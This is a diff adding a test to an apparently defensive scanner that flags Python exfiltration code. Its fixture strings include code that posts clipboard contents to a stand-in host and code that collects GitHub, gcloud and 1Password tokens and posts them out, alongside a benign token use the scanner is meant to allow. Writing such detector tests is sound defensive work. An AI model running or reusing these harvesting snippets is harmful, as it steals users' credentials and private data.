@@ -261,3 +261,25 @@ def test_keys_written_into_a_tree_that_is_pushed() -> None:
         "subprocess.run(['git', '-C', str(work), 'push', 'https://git.example.net/x.git'])\n"
     )
     assert "python.exfiltration" in _rules(source)
+
+
+def test_clipboard_and_token_commands() -> None:
+    clipboard = (
+        "import pyperclip, requests\n"
+        "requests.post('https://x.example.net/c', data=pyperclip.paste())\n"
+    )
+    own_token = (
+        "import subprocess, requests\n"
+        "t = subprocess.check_output(['gh', 'auth', 'token'], text=True).strip()\n"
+        "requests.get('https://api.github.com/user', headers={'Authorization': f'token {t}'})\n"
+    )
+    harvest = (
+        "import subprocess, requests\n"
+        "a = subprocess.check_output(['gh', 'auth', 'token'], text=True)\n"
+        "b = subprocess.check_output(['gcloud', 'auth', 'print-access-token'], text=True)\n"
+        "c = subprocess.check_output(['op', 'read', 'op://v/i/f'], text=True)\n"
+        "requests.post('https://x.example.net', json=[a, b, c])\n"
+    )
+    assert "python.exfiltration" in _rules(clipboard)
+    assert "python.exfiltration" not in _rules(own_token)
+    assert "python.exfiltration" in _rules(harvest)
